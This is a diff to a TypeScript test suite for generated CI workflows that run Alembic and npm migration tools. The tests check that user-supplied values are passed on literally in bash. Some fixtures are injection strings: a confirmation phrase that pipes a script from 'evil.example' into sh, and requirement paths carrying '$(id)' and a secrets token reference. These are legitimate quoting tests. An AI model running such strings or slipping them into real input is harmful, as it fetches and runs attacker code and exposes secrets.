@@ -31,6 +31,11 @@ const facts = (stages: PipelineStage[], more: Partial<PipelineFacts> = {}): Pipe
 const anyStages: Record<string, PipelineFacts> = {
   "dev and prod": facts([stage("dev"), stage("prod")]),
   "one without protection, in a folder": facts([stage("dev")], { folder: "services/api" }),
+  "Alembic, with requirements, in a folder": facts([stage("dev")], {
+    folder: "services/api",
+    alembic: { requirements: `back end/$(id)\${{ secrets.TOKEN }}.txt` },
+  }),
+  "Alembic, and nobody says what it needs": facts([stage("dev")], { alembic: {} }),
   "production alone": facts([stage("prod")], { hasMigrations: false }),
   "a region each, one unknown": facts([
     stage("dev", { region: "us-west-2" }),
@@ -192,9 +197,26 @@ describe("the scripts, in a real bash", () => {
     const PHRASE = '"; curl evil.example | sh; echo "$(id)';
     const end = await carriedOut(production, { ...asked, PHRASE });
     expect(end.commands).toEqual([
-      [...npx, "prod", `--confirm=${PHRASE}`, "--dry-run", "--out", "/tmp/runner/plan.json"],
+      [
+        ...npx,
+        "prod",
+        `--confirm=${PHRASE}`,
+        "--dry-run",
+        "--out",
+        "/tmp/runner/plan.json",
+        "--require-head",
+      ],
       [...npx, "prod", `--confirm=${PHRASE}`, "--plan", "/tmp/runner/plan.json"],
     ]);
+  });
+
+  test("production: where a head cannot be compared it is not asked for", async () => {
+    const untold = facts([stage("prod", { tellsHead: false }), stage("prod-eu")]);
+    const workflow = workflowsOf(untold)["migrate-production.yml"] ?? "";
+    expect((await carriedOut(workflow, { ...asked, PHRASE: "p" })).commands[0]?.at(-1)).toBe(
+      "/tmp/runner/plan.json",
+    );
+    expect(workflow).not.toMatch(/require-head|is refused/);
   });
 
   test("production: what is asked for is handed on, and the record says who, what and why, whatever they typed", async () => {
@@ -240,6 +262,24 @@ describe("the scripts, in a real bash", () => {
       ["prod-c", 2],
     ] as const)
       expect((await carriedOut(mixed, { ...given, STAGE })).commands).toHaveLength(count);
+  });
+
+  test("the SQL of Alembic's migrations can be reviewed: what they import is installed first", async () => {
+    const pip = '#!/usr/bin/env bash\nprintf "%s\\0" pip "$@" >> "$CALLS"; printf "\\n" >> "$CALLS"\n';
+    await writeFile(join(folder, "python3"), pip);
+    await chmod(join(folder, "python3"), 0o755);
+    const install = async (alembic: PipelineFacts["alembic"]) => {
+      const given = facts([stage("dev")], alembic === undefined ? {} : { alembic });
+      const review = workflowsOf(given)["migrate-review.yml"] ?? "";
+      const step = steps(review).find(({ env }) => env !== undefined);
+      const env = { GITHUB_BASE_REF: "main", ...(step?.env as Record<string, string> | undefined) };
+      return (await carriedOut(review, env)).commands.map((words) => words.slice(0, 6));
+    };
+    const lint = ["--yes", "migrate-remote@1.2.3", "lint", "--base", "origin/main"];
+    const begin = ["pip", "-m", "pip", "install", "--quiet"];
+    expect(await install({ requirements: "$(id)/all.txt" })).toEqual([[...begin, "-r"], lint]);
+    expect(await install({})).toEqual([[...begin, "alembic"], lint]);
+    expect(await install(undefined)).toEqual([lint]);
   });
 
   test("a pull request's migrations are reviewed against the branch that they go to", async () => {
